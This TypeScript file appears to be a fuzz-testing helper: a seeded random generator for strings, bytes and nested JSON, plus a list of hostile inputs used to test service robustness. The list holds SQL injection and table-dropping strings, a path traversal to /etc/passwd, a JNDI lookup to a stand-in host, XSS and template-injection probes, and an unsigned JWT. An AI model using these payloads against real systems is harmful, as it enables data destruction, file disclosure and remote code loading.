import { Random as SeededRandom } from '../../../subgraphs/shared/src/dataset/random';

/**
 * The data set's seeded generator (mulberry32), so a failing input can be replayed, with the
 * strings, bytes and JSON that hostile inputs are made of.
 */
export class Random extends SeededRandom {
  /** A string of `length` characters drawn from `alphabet`. */
  string(length: number, alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789'): string {
    let out = '';
    for (let i = 0; i < length; i++) out += alphabet[this.int(0, alphabet.length - 1)];
    return out;
  }

  /** Any code units, including control characters, lone surrogates and NUL. */
  unicode(length: number): string {
    let out = '';
    for (let i = 0; i < length; i++) {
      out += String.fromCharCode(
        this.pick([
          this.int(0, 31),
          this.int(32, 126),
          this.int(0xd800, 0xdfff),
          this.int(0, 0xffff),
        ]),
      );
    }
    return out;
  }

  bytes(length: number): Buffer {
    const out = Buffer.alloc(length);
    for (let i = 0; i < length; i++) out[i] = this.int(0, 255);
    return out;
  }

  /** Any JSON value, nested up to `depth`. */
  json(depth = 3): unknown {
    const kind = this.int(0, depth > 0 ? 8 : 5);
    switch (kind) {
      case 0:
        return null;
      case 1:
        return this.chance(0.5);
      case 2:
        return this.pick([0, -1, 1, 2 ** 31, -(2 ** 53), 1e308, 0.5, 100, 101, 1e21]);
      case 3:
        return this.string(this.int(0, 40));
      case 4:
        return this.unicode(this.int(0, 20));
      case 5:
        return this.pick(HOSTILE_STRINGS);
      case 6:
      case 7:
        return Array.from({ length: this.int(0, 5) }, () => this.json(depth - 1));
      default:
        return Object.fromEntries(
          Array.from({ length: this.int(0, 5) }, () => [
            this.string(this.int(1, 8)),
            this.json(depth - 1),
          ]),
        );
    }
  }
}

/** Strings that have broken other services: injections, path tricks, format strings. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE assessments; --",
  '"); DELETE FROM funding.project; --',
  '1; SELECT pg_sleep(10)',
  '../../../../etc/passwd',
  '%s%s%s%s%n',
  '${jndi:ldap://example.org/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '\u0000',
  'A\u0000B',
  '\ud800',
  'A\udc00B',
  '\\',
  'NaN',
  'Infinity',
  '-0',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'eyJhbGciOiJub25lIn0.e30.',
  'ZZZ',
  'nga',
  'N G A',
  '0190d4c0-0000-7000-8000-000000000000',
  'not-a-uuid',
  'CGC-9999-9999',
  'x'.repeat(10_000),
];
